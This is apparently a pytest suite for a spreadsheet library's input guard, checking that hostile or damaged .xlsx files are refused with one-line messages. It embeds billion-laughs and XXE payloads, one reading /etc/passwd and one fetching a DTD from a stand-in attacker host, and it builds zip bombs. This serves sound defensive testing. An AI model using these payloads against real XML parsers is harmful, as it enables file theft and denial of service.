"""Hostile and broken files are refused before parsing, with a one-line message, in bounded time/memory.

Every hostile file is generated here at run time from a small valid workbook.
"""

import io
import os
import struct
import zipfile
from pathlib import Path

import openpyxl
import pytest

from xlbridge import WorkbookError, WorkbookLimitError
from xlbridge.batch.recalc import recalc_workbook
from xlbridge.batch.guard.safety import SafetyLimits, check_workbook

ROOT = Path(__file__).resolve().parents[2]

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">
<si><t>&lol9;</t></si></sst>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">
<si><t>&xxe;</t></si></sst>"""

XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE sst [<!ENTITY % ext SYSTEM "http://attacker.invalid/evil.dtd"> %ext;]>
<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>"""


@pytest.fixture(scope="module")
def good(tmp_path_factory):
    path = tmp_path_factory.mktemp("safety") / "good.xlsx"
    wb = openpyxl.Workbook()
    wb.active["A1"] = "hello"
    wb.active["A2"] = "=1+1"
    wb.save(path)
    return path


def rebuild(src, dst, replace=None, add=None):
    """Copy zip src to dst, replacing or adding members (name -> bytes)."""
    replace, add = replace or {}, add or {}
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, replace.get(info.filename, zin.read(info)))
        for name, data in add.items():
            zout.writestr(name, data)
    return dst


def refused(path, match, **kw):
    with pytest.raises(WorkbookError, match=match) as exc:
        check_workbook(path, **kw)
    msg = str(exc.value)
    assert "\n" not in msg and len(msg) < 300
    return msg


def test_good_workbook_passes(good):
    info = check_workbook(good)
    assert "xl/workbook.xml" in info.members and not info.has_vba


def test_billion_laughs_refused(good, tmp_path):
    bad = rebuild(good, tmp_path / "laughs.xlsx", add={"xl/sharedStrings.xml": BILLION_LAUGHS})
    msg = refused(bad, "DTD")
    assert "xl/sharedStrings.xml" in msg


@pytest.mark.parametrize("payload", [XXE, XXE_PARAMETER], ids=["general", "parameter"])
def test_external_entity_refused(good, tmp_path, payload):
    bad = rebuild(good, tmp_path / "xxe.xlsx", replace={"xl/worksheets/sheet1.xml": payload})
    refused(bad, "refused: XML part xl/worksheets/sheet1.xml contains a DTD")


def test_dtd_in_any_part_refused_even_rels(good, tmp_path):
    rels = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "b">]><Relationships/>'
    bad = rebuild(good, tmp_path / "rels.xlsx", replace={"_rels/.rels": rels})
    refused(bad, "_rels/.rels")


def test_zip_bomb_by_ratio_refused_before_decompressing(good, tmp_path):
    bad = rebuild(good, tmp_path / "ratio.xlsx", add={"xl/media/zeros.bin": bytes(20 << 20)})
    with zipfile.ZipFile(bad) as z:
        info = z.getinfo("xl/media/zeros.bin")
        assert info.file_size / info.compress_size > 200
    refused(bad, r"compression ratio \d+:1, more than the limit of 200:1")


def _patch_declared_size(path, member, size):
    """Rewrite the declared uncompressed size of ``member`` in the central directory and local header."""
    data = bytearray(open(path, "rb").read())
    name = member.encode()
    pos = 0
    while True:
        pos = data.find(b"PK\x01\x02", pos)
        if pos < 0:
            break
        nlen = struct.unpack_from("<H", data, pos + 28)[0]
        if bytes(data[pos + 46: pos + 46 + nlen]) == name:
            struct.pack_into("<I", data, pos + 24, size)
            local = struct.unpack_from("<I", data, pos + 42)[0]
            struct.pack_into("<I", data, local + 22, size)
        pos += 4
    open(path, "wb").write(bytes(data))


def test_zip_bomb_by_declared_size_refused(good, tmp_path):
    bad = rebuild(good, tmp_path / "declared.xlsx", add={"xl/media/big.bin": b"x" * 1000})
    _patch_declared_size(bad, "xl/media/big.bin", 0xFFFFFFF0)  # claims 4 GiB
    refused(bad, "declares 4294967280 bytes uncompressed")


def test_total_declared_size_limit(good, tmp_path):
    members = {f"xl/media/p{i}.bin": os.urandom(1 << 16) for i in range(4)}
    bad = rebuild(good, tmp_path / "total.xlsx", add=members)
    refused(bad, "in total", limits=SafetyLimits(max_total_uncompressed=200_000))


def test_member_count_limit(good, tmp_path):
    bad = rebuild(good, tmp_path / "many.xlsx", add={f"xl/media/{i}.bin": b"" for i in range(50)})
    refused(bad, "zip members, more than the limit of 40", limits=SafetyLimits(max_members=40))


def test_member_lying_about_its_size_refused(good, tmp_path):
    bad = rebuild(good, tmp_path / "liar.xlsx", add={"xl/media/liar.bin": b"y" * 5000})
    _patch_declared_size(bad, "xl/media/liar.bin", 100)
    refused(bad, "damaged workbook: zip member xl/media/liar.bin cannot be read")


def test_not_a_zip_refused(tmp_path):
    p = tmp_path / "notes.xlsx"
    p.write_text("Board,NS,EW\n1,3,5\n")
    refused(p, "not an Excel workbook \\(not a zip file")


def test_empty_file_refused(tmp_path):
    p = tmp_path / "empty.xlsx"
    p.write_bytes(b"")
    refused(p, "empty")


def test_other_zip_refused(tmp_path):
    p = tmp_path / "doc.xlsx"
    with zipfile.ZipFile(p, "w") as z:
        z.writestr("hello.txt", "hi")
    refused(p, "not an Excel workbook \\(a zip file without")


@pytest.mark.parametrize("keep", [0.5, 0.9])
def test_truncated_refused(good, tmp_path, keep):
    data = good.read_bytes()
    p = tmp_path / "cut.xlsx"
    p.write_bytes(data[: int(len(data) * keep)])
    refused(p, "damaged workbook: truncated or corrupt zip")


def test_corrupt_member_refused(good, tmp_path):
    data = bytearray(good.read_bytes())
    with zipfile.ZipFile(good) as z:
        info = z.getinfo("xl/styles.xml")
    start = info.header_offset + 30 + len(info.filename) + len(info.extra)
    for i in range(start + 10, start + 40):  # scribble over the deflate stream
        data[i] ^= 0x5A
    p = tmp_path / "corrupt.xlsx"
    p.write_bytes(bytes(data))
    refused(p, "damaged workbook: zip member xl/styles.xml")


def test_cfb_encrypted_refused(tmp_path):
    p = tmp_path / "secret.xlsx"
    p.write_bytes(bytes.fromhex("D0CF11E0A1B11AE1") + bytes(4096))
    msg = refused(p, "OLE2")
    assert "password" in msg and "(.xls)" in msg and "Excel 2007-365 (.xlsx)" in msg  # how to save it as .xlsx


def test_zip_encrypted_member_refused(good, tmp_path):
    data = bytearray(good.read_bytes())
    pos = data.find(b"PK\x01\x02")
    struct.pack_into("<H", data, pos + 8, struct.unpack_from("<H", data, pos + 8)[0] | 1)
    p = tmp_path / "zipcrypto.xlsx"
    p.write_bytes(bytes(data))
    refused(p, "encrypted")


def test_file_size_limit(good):
    refused(good, "more than the limit of 100", limits=SafetyLimits(max_file_size=100))


def test_streams_accepted():
    buf = io.BytesIO(b"PK\x03\x04 but no more")
    with pytest.raises(WorkbookError, match="truncated or corrupt"):
        check_workbook(buf)


def test_xlsm_vba_project_kept_byte_identical_never_run(good, tmp_path):
    vba = b"\xd0\xcf\x11\xe0" + os.urandom(3000)  # an opaque VBA project: only copied
    ct = zipfile.ZipFile(good).read("[Content_Types].xml").replace(
        b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    src = rebuild(good, tmp_path / "macro.xlsm", replace={"[Content_Types].xml": ct},
                  add={"xl/vbaProject.bin": vba})
    assert check_workbook(src).has_vba
    report = recalc_workbook(str(src), functions={})
    assert report.output.endswith("macro-recalculated.xlsm") and report.has_vba
    with zipfile.ZipFile(report.output) as z:
        assert z.read("xl/vbaProject.bin") == vba
    assert openpyxl.load_workbook(report.output, data_only=True).active["A2"].value == 2


def test_recalc_refuses_hostile_file_before_engine(good, tmp_path):
    bad = rebuild(good, tmp_path / "laughs.xlsx", add={"xl/sharedStrings.xml": BILLION_LAUGHS})
    with pytest.raises(WorkbookError, match="DTD"):
        recalc_workbook(str(bad), functions={})
    assert not (tmp_path / "laughs-recalculated.xlsx").exists()


def _vm_size():
    with open("/proc/self/status") as fh:
        for line in fh:
            if line.startswith("VmSize:"):
                return int(line.split()[1]) * 1024
    return None


@pytest.mark.skipif(not os.path.exists("/proc/self/status"), reason="needs Linux /proc")
def test_engine_memory_bounded(tmp_path):
    wb = openpyxl.Workbook()
    wb.active["A1"] = "=HOG()"
    wb.save(tmp_path / "hog.xlsx")

    def hog():
        return len(bytearray(8 << 30))  # 8 GiB

    limits = SafetyLimits(max_memory=_vm_size() + (512 << 20))
    with pytest.raises(WorkbookError, match="more memory than the limit"):
        recalc_workbook(str(tmp_path / "hog.xlsx"), functions={"HOG": hog}, limits=limits)


def test_engine_time_bounded(tmp_path):
    import time

    wb = openpyxl.Workbook()
    wb.active["A1"] = "=SLOW()"
    wb.save(tmp_path / "slow.xlsx")

    def slow():
        time.sleep(120)
        return 1

    with pytest.raises(WorkbookError, match="took longer than the limit of 1 s"):
        recalc_workbook(str(tmp_path / "slow.xlsx"), functions={"SLOW": slow}, limits=SafetyLimits(max_seconds=1))


def test_array_formula_claiming_the_whole_sheet_refused(good, tmp_path):
    sheet = (b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
             b'<row r="1"><c r="A1"><f t="array" ref="A1:XFD1048576">1</f></c></row></sheetData></worksheet>')
    bad = rebuild(good, tmp_path / "huge.xlsx", replace={"xl/worksheets/sheet1.xml": sheet})
    with pytest.raises(WorkbookError, match="refused: more than 5000000 formula and array-formula cells"):
        recalc_workbook(str(bad), functions={})


def test_xlsb_refused(tmp_path):
    p = tmp_path / "book.xlsb"
    with zipfile.ZipFile(p, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.bin", b"\x83\x01\x00")
    refused(p, r"binary workbook \(.xlsb\)")


def test_checks_themselves_time_bounded(good):
    """The streamed checks stop at ``max_seconds`` too (a deadline already passed: no timing involved)."""
    refused(good, r"refused: checking the file took longer than the limit of 0 s \(at zip member ",
            limits=SafetyLimits(max_seconds=0))
    check_workbook(good, limits=SafetyLimits(max_seconds=600))


# --- the worksheet parts: scanned last, by the guard, before anything else reads the book -------------

def _worksheet_part(path):
    with zipfile.ZipFile(path) as z:
        return next(n for n in z.namelist() if n.startswith("xl/worksheets/sheet"))


@pytest.mark.parametrize("isolate", [True, False])
def test_dtd_in_a_worksheet_refused_by_the_scan_not_the_engine(good, tmp_path, isolate):
    """The engine's reader would refuse it too, in its own words: the scan's refusal wins, nothing written."""
    part = _worksheet_part(good)
    sheet = (b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "b">]><worksheet '
             b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/></worksheet>')
    bad = rebuild(good, tmp_path / "dtd.xlsx", replace={part: sheet})
    with pytest.raises(WorkbookError) as exc:
        recalc_workbook(str(bad), functions={}, isolate=isolate)
    assert str(exc.value) == (f"dtd.xlsx: refused: XML part {part} contains a DTD (document type declaration; used "
                              f"by entity bombs and external entities)")
    assert sorted(os.listdir(tmp_path)) == ["dtd.xlsx"]


@pytest.mark.parametrize("isolate", [True, False])
def test_cell_limit_of_a_worksheet_refuses_though_the_engine_succeeds(tmp_path, isolate):
    """50 cells against a limit of 40: the engine alone would recalculate the book; the scan refuses it."""
    wb = openpyxl.Workbook()
    wb.active.title = "Scores"
    for r in range(1, 26):
        wb.active.cell(r, 1, r)
        wb.active.cell(r, 2, f"=A{r}*2")
    wb.save(tmp_path / "big.xlsx")
    with pytest.raises(WorkbookError) as exc:
        recalc_workbook(str(tmp_path / "big.xlsx"), functions={}, limits=SafetyLimits(max_cells=40), isolate=isolate)
    assert str(exc.value) == "big.xlsx: refused: more than 40 cells, the limit (reached in sheet Scores)"
    assert sorted(os.listdir(tmp_path)) == ["big.xlsx"]
    recalc_workbook(str(tmp_path / "big.xlsx"), functions={}, limits=SafetyLimits(max_cells=50), isolate=isolate)
    assert openpyxl.load_workbook(tmp_path / "big-recalculated.xlsx", data_only=True)["Scores"]["B25"].value == 50


def _with_sheet(good, path, sheet_xml):
    part = _worksheet_part(good)
    return rebuild(good, path, replace={part: sheet_xml}), part


@pytest.mark.parametrize("isolate", [True, False])
def test_formula_limit_reached_before_a_syntax_error_is_the_refusal(good, tmp_path, isolate):
    """The formula's text passes the limit before the part turns out not well-formed (found by review):
    the limit is reported, as the one-pass check did."""
    with zipfile.ZipFile(good) as z:
        sheet = z.read(_worksheet_part(good))
    bad, _ = _with_sheet(good, tmp_path / "long.xlsx",
                         sheet.replace(b"<f>1+1</f>", b"<f>" + b"&amp;" * 8200 + b"&bogus;</f>"))
    expected = "long.xlsx: refused: sheet Sheet, cell 'A2': a formula longer than 8,192 characters, the limit"
    assert refused(bad, "formula longer") == expected
    with pytest.raises(WorkbookLimitError) as exc:
        recalc_workbook(str(bad), functions={}, isolate=isolate)
    assert str(exc.value) == expected
    assert sorted(os.listdir(tmp_path)) == ["long.xlsx"]


@pytest.mark.parametrize("isolate", [True, False])
def test_package_records_in_a_worksheet_part_are_checked(good, tmp_path, isolate):
    """A worksheet part holding content types naming another main part: refused as the one-pass check
    refuses it (found by review), by the scan, in recalc too."""
    types = (b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override '
             b'PartName="/xl/evil.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
             b'sheet.main+xml"/></Types>')
    bad, _ = _with_sheet(good, tmp_path / "types.xlsx", types)
    expected = refused(bad, "main part")
    assert "'/xl/evil.xml'" in expected
    with pytest.raises(WorkbookError) as exc:
        recalc_workbook(str(bad), functions={}, isolate=isolate)
    assert str(exc.value) == expected
    assert sorted(os.listdir(tmp_path)) == ["types.xlsx"]


def test_sheet_records_in_a_worksheet_part_refused_by_the_check(good, tmp_path):
    """A "worksheet" whose root is a <workbook> listing a valid sheet: refused in one line by the check (the
    sheets are known before the worksheets are scanned), and by recalc with it."""
    book = (b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://'
            b'schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Other" '
            b'sheetId="7" r:id="rId1"/></sheets></workbook>')
    bad, part = _with_sheet(good, tmp_path / "wb.xlsx", book)
    expected = (f"wb.xlsx: damaged workbook: worksheet part {part} holds the workbook's own records (sheets or "
                f"links to other workbooks)")
    with pytest.raises(WorkbookError) as exc:
        check_workbook(bad, name="wb.xlsx")
    assert str(exc.value) == expected
    with pytest.raises(WorkbookError) as exc:
        recalc_workbook(str(bad), functions={})
    assert str(exc.value) == expected
    assert sorted(os.listdir(tmp_path)) == ["wb.xlsx"]


def test_a_first_part_of_the_result_reaches_the_parent_while_the_child_goes_on():
    """``early``: the child's ``send(part)`` is taken by the parent at once (here 2 s before the child ends);
    a child dying after it still ends the run as died."""
    import time

    from xlbridge.batch.evaluate.child import ChildProcess

    got = []

    def job(early=None):
        early("values")
        time.sleep(2)
        return "parts"

    status, payload, _ = ChildProcess(job, max_memory=16 << 30, max_seconds=60).run(
        early=lambda part: got.append((part, time.monotonic())))
    ended = time.monotonic()
    assert (status, payload, [p for p, _ in got]) == ("ok", "parts", ["values"])
    assert ended - got[0][1] > 1.0

    def dies(early=None):
        early("values")
        os._exit(3)

    got.clear()
    assert ChildProcess(dies, max_memory=16 << 30, max_seconds=60).run(early=lambda part: got.append(part))[:2] == (
        "died", 3) and got == ["values"]


@pytest.mark.parametrize("above, freed", [(0, True), (1 << 60, False)])
def test_the_engines_process_makes_no_full_collection_but_frees_the_engine_once_done(tmp_path, monkeypatch,
                                                                                      above, freed):
    """The engine's process keeps CPython's garbage collector to its young generations (a full collection
    walks the whole heap of sheets and cells and finds little: about 0.4 s at 10,000 rows), and
    evaluate_and_splice frees the engine's graph, a web of dead reference cycles, with one collection
    before the patching when the process has grown past ``COLLECT_ABOVE``: nothing is then left for a
    collection to find (17,630 objects without it); a smaller process skips it."""
    import functools
    import gc
    import shutil

    from xlbridge.batch.evaluate import splice
    from xlbridge.batch.evaluate.child import ChildProcess
    from xlbridge.batch.evaluate.engine import engine_modules
    from xlbridge.batch.recalc import xlbridge_excel_functions
    from xlbridge.batch.evaluate.splice import evaluate_and_splice

    engine_modules()
    book = tmp_path / "book.xlsx"
    shutil.copy(ROOT / "workbooks" / "examples" / "pairs.xlsx", book)
    info = check_workbook(str(book))
    run = functools.partial(evaluate_and_splice, str(book), info.sheets, cell_formats=info.cell_formats,
                            functions=xlbridge_excel_functions(), external_links=info.external_links)

    monkeypatch.setattr(splice, "COLLECT_ABOVE", above)  # (the forked child inherits it)

    def job():
        run()
        return gc.get_threshold()[2], gc.collect()

    status, (full, left) = ChildProcess(job, max_memory=16 << 30, max_seconds=120, workdir=str(tmp_path),
                                        readable=(str(book),)).run()[:2]
    assert status == "ok" and full >= 1 << 30 and (left < 100 if freed else left > 1000)


def test_a_sheet_read_leaves_no_reference_cycle():
    """The streamed reader's handlers read its parser (byte offsets): the cycle is cut after the parse, so
    the reading is freed as soon as it is dropped, with no full collection (the engine's process makes none)."""
    import gc
    import zipfile

    from xlbridge.batch.read.sheetxml import read_sheet

    with zipfile.ZipFile(ROOT / "workbooks" / "examples" / "pairs.xlsx") as zf:
        xml = zf.read("xl/worksheets/sheet2.xml")
    gc.collect()
    gc.disable()
    try:
        read_sheet(xml, values=True, shared_strings=[])
        assert gc.collect() == 0
    finally:
        gc.enable()


def _said(fd: int, wait: float) -> bytes:
    """What a child wrote on the pipe ``fd`` within ``wait`` seconds (b"" when nothing)."""
    import select

    got = b""
    end = __import__("time").monotonic() + wait
    while (left := end - __import__("time").monotonic()) > 0 and select.select([fd], [], [], left)[0]:
        piece = os.read(fd, 64)
        if not piece:
            break
        got += piece
    return got


def test_a_child_started_early_prepares_and_runs_its_job_only_when_told(tmp_path):
    """ChildProcess.start(wait_for_go=True) (the engine's process, forked while the read stage runs): ``prepare()``
    runs at once, before the sandbox (it may read the Python installation's files: it imports); the job waits for
    ``go`` and runs in the sandbox (opening a file is refused there); run() lets it go and returns its result."""
    from xlbridge.batch.evaluate.child import ChildProcess

    other = tmp_path / "other.txt"
    other.write_text("not the book")
    said_r, said_w = os.pipe()
    try:
        def prepare():
            with open(other, "rb"):  # (a file the job may not read: no sandbox yet)
                os.write(said_w, b"prepared;")

        def job():
            os.write(said_w, b"ran;")
            try:
                open(other).close()
            except PermissionError:
                return "sandboxed"
            return "open"

        child = ChildProcess(job, max_memory=16 << 30, max_seconds=60, prepare=prepare)
        with child:
            child.start(wait_for_go=True)
            assert _said(said_r, 5) == b"prepared;"
            assert _said(said_r, 0.5) == b""  # (no job before the go)
            assert child.run()[:2] == ("ok", "sandboxed")
        assert _said(said_r, 1) == b"ran;"
    finally:
        os.close(said_r)
        os.close(said_w)


def test_a_child_closed_before_its_go_never_runs_its_job_and_leaves_no_process():
    """A run stopped between the fork and the go (the read stage refused the book): the child is killed unstarted."""
    import time

    from xlbridge.batch.evaluate.child import ChildProcess

    said_r, said_w = os.pipe()
    try:
        child = ChildProcess(lambda: os.write(said_w, b"ran"), max_memory=16 << 30, max_seconds=60,
                             prepare=lambda: os.write(said_w, b"prepared;"))
        with child:
            child.start(wait_for_go=True)
            pid = child._proc.pid
            assert _said(said_r, 5) == b"prepared;"
        time.sleep(0.2)
        assert _said(said_r, 0.3) == b""
        with pytest.raises(ProcessLookupError):
            os.kill(pid, 0)  # (killed and reaped)
    finally:
        os.close(said_r)
        os.close(said_w)


def test_a_child_started_early_counts_its_time_from_its_fork():
    """The command's time limit holds from the fork: a child kept waiting past it ends the run at the time limit."""
    import time

    from xlbridge.batch.evaluate.child import ChildProcess

    child = ChildProcess(lambda: "done", max_memory=16 << 30, max_seconds=0.5, grace=10)
    child.start(wait_for_go=True)
    time.sleep(1.0)
    assert child.run()[0] == "time"


def test_recalc_forks_the_engines_process_after_the_guard_and_lets_it_read_after_the_read_stage(tmp_path, monkeypatch):
    """recalc: the engine's process is forked once the guard passed the book (it imports the engine while the read
    stage runs), before its copy of the book exists; it is let go after the read stage; a run the read stage stops
    leaves no process."""
    from xlbridge.batch import recalc
    from xlbridge.batch.evaluate import child as child_module

    order: list = []

    def recording(stage, real):
        def run(*args, **kwargs):
            order.append(stage)
            if stage == "engine":
                order.append(("copy exists", os.path.exists(args[0].engine_copy)))
            return real(*args, **kwargs)
        return run

    monkeypatch.setattr(recalc, "check_upload", recording("guard", recalc.check_upload))
    monkeypatch.setattr(recalc, "engine_process", recording("engine", recalc.engine_process))
    monkeypatch.setattr(recalc, "read_book", recording("read", recalc.read_book))
    real_go = child_module.ChildProcess.go
    monkeypatch.setattr(child_module.ChildProcess, "go", lambda self: order.append("go") or real_go(self))
    report = recalc_workbook(ROOT / "workbooks" / "examples" / "pairs.xlsx", tmp_path / "out.xlsx")
    assert report.formula_cells > 0 and not report.errors
    assert order == ["guard", "engine", ("copy exists", False), "read", "go"], order

    started: list = []
    real_start = child_module.ChildProcess.start
    monkeypatch.setattr(child_module.ChildProcess, "start",
                        lambda self, *a, **k: real_start(self, *a, **k) or started.append(self._proc.pid))

    def refuse(book):
        raise WorkbookError("refused by the read stage")

    monkeypatch.setattr(recalc, "read_book", refuse)
    with pytest.raises(WorkbookError, match="refused by the read stage"):
        recalc_workbook(ROOT / "workbooks" / "examples" / "pairs.xlsx", tmp_path / "out2.xlsx")
    assert len(started) == 1
    with pytest.raises(ProcessLookupError):
        os.kill(started[0], 0)
    assert not (tmp_path / "out2.xlsx").exists()


def test_the_time_limit_never_cuts_a_first_part_in_the_middle():
    """The child's time limit runs out while a first part is on its way (its header written, the body not
    yet: here the write is slowed on purpose): the part arrives whole and the run ends at the time limit,
    not as a dead engine (found by review: a signal mask let the other threads of the child take SIGALRM)."""
    import time

    from xlbridge.batch.evaluate.child import ChildProcess

    def job(early=None):
        from multiprocessing import connection

        plain = connection.Connection._send

        def slow(self, buf, *args):
            plain(self, buf, *args)
            if len(buf) == 4:  # the header of a message longer than 16 KiB: its body is a second write
                time.sleep(1.5)

        connection.Connection._send = slow
        time.sleep(0.2)
        early("x" * 100_000)
        time.sleep(30)
        return "parts"

    got = []
    status, payload, _ = ChildProcess(job, max_memory=16 << 30, max_seconds=0.5, grace=10).run(
        early=lambda part: got.append(len(part)))
    assert status == "time" and got == [100_000]


def test_peak_memory_as_the_kernel_counts_it_and_without_resource(monkeypatch):
    """splice._peak_bytes: this process's peak resident set in bytes (/proc's VmHWM, in kB, is the
    kernel's own count of it); without the resource module (Windows) it says "collect"."""
    import sys

    from xlbridge.batch.evaluate import splice

    peak = splice._peak_bytes()
    status = Path("/proc/self/status")
    if status.exists():
        hwm = next(int(line.split()[1]) for line in status.read_text().splitlines() if line.startswith("VmHWM:"))
        assert peak >= hwm * 1024 * 0.9 and peak > 10 << 20
    monkeypatch.setitem(sys.modules, "resource", None)  # (import resource then raises ImportError)
    assert splice._peak_bytes() > splice.COLLECT_ABOVE


def test_a_signal_during_the_rename_comes_after_it_with_the_file_named(tmp_path, monkeypatch):
    """write_atomic: a signal arriving while the finished file is renamed into place is held back until the
    rename is done and noted: the exception carries the path (the command then says the output was written,
    not "nothing written"); the new file stands whole and no temporary file stays."""
    import signal

    from xlbridge.batch.guard.files import write_atomic
    from xlbridge.core.files import WRITTEN

    class Stop(BaseException):
        pass

    def stop(signum, frame):
        raise Stop

    real = os.replace

    def replace(a, b):
        os.kill(os.getpid(), signal.SIGTERM)  # the signal comes during the rename
        real(a, b)

    dest = tmp_path / "out.xlsx"
    dest.write_bytes(b"old")
    previous = signal.signal(signal.SIGTERM, stop)
    try:
        monkeypatch.setattr(os, "replace", replace)
        with pytest.raises(Stop) as stopped:
            write_atomic(dest, lambda fh: fh.write(b"new"))
    finally:
        monkeypatch.undo()
        signal.signal(signal.SIGTERM, previous)
    assert getattr(stopped.value, WRITTEN) == str(dest)
    assert dest.read_bytes() == b"new" and os.listdir(tmp_path) == ["out.xlsx"]


def test_a_signal_before_the_rename_leaves_the_old_file_and_names_nothing(tmp_path):
    from xlbridge.batch.guard.files import write_atomic
    from xlbridge.core.files import WRITTEN

    class Stop(BaseException):
        pass

    def write(fh):
        fh.write(b"half")
        raise Stop

    dest = tmp_path / "out.xlsx"
    dest.write_bytes(b"old")
    with pytest.raises(Stop) as stopped:
        write_atomic(dest, write)
    assert getattr(stopped.value, WRITTEN, None) is None
    assert dest.read_bytes() == b"old" and os.listdir(tmp_path) == ["out.xlsx"]


def test_an_engine_import_the_memory_limit_stops_is_the_memory_limit():
    """prepare() (the engine's imports, in the process forked early) meeting the address-space limit inside the
    dynamic loader ("failed to map segment": an ImportError, found by review at --max-memory 180 on the teams
    example) ends the run as the memory limit, not as an internal error."""
    from xlbridge.batch.evaluate.child import ChildProcess

    def prepare():
        raise ImportError("/usr/lib/python3.11/lib-dynload/unicodedata.so: failed to map segment from shared object")

    child = ChildProcess(lambda: "never", max_memory=16 << 30, max_seconds=60, prepare=prepare)
    child.start(wait_for_go=True)
    assert child.run()[0] == "memory"


def test_a_signal_raising_inside_the_engines_fork_leaves_no_process_nor_pipe(tmp_path, monkeypatch):
    """An exception raised in ChildProcess.start() after the fork (here at gc.unfreeze, standing for SIGINT or SIGTERM
    turned into an exception there: found by review) kills the engine's process unstarted and closes its pipes."""
    import gc
    import glob

    from xlbridge.batch import recalc

    def children() -> list:
        out = []
        for stat in glob.glob("/proc/[0-9]*/stat"):
            try:
                text = Path(stat).read_text()
            except OSError:
                continue
            if int(text[text.rindex(")") + 2:].split()[1]) == os.getpid():
                out.append(stat)
        return out

    before, others = set(os.listdir("/proc/self/fd")), set(children())  # (a session's LibreOffice may be running)
    real_unfreeze = gc.unfreeze

    def interrupted():
        monkeypatch.setattr(gc, "unfreeze", real_unfreeze)
        real_unfreeze()
        raise KeyboardInterrupt("a signal during the fork")

    monkeypatch.setattr(gc, "unfreeze", interrupted)
    with pytest.raises(KeyboardInterrupt):
        recalc.recalc_workbook(ROOT / "workbooks" / "examples" / "pairs.xlsx", tmp_path / "out.xlsx")
    assert set(children()) <= others and set(os.listdir("/proc/self/fd")) <= before
    assert not (tmp_path / "out.xlsx").exists()
